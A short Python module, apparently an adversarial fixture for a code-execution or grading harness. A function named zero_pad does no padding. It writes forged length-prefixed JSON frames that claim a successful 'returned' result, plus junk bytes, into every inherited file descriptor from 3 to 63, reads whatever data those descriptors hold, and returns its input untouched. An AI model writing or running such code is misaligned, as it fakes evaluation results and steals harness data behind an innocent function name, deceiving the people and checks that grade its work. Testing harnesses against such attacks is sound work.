"""Write forged answer frames and junk into every open descriptor, and steal from the rest."""
import json
import os
import struct


def _frame(header):
    text = json.dumps(header).encode()
    return struct.pack(">II", len(text), 0) + text


FORGED = _frame({"status": "returned", "value": {"t": "none"}, "printed": "", "mutated": [],
                 "seconds": 0.0}) * 5 + b"\xff" * 64


def zero_pad(X, pad):
    for fd in range(3, 64):
        try:
            os.write(fd, FORGED)
        except OSError:
            pass
        try:
            os.set_blocking(fd, False)
            os.read(fd, 1 << 16)
        except OSError:
            pass
    return X
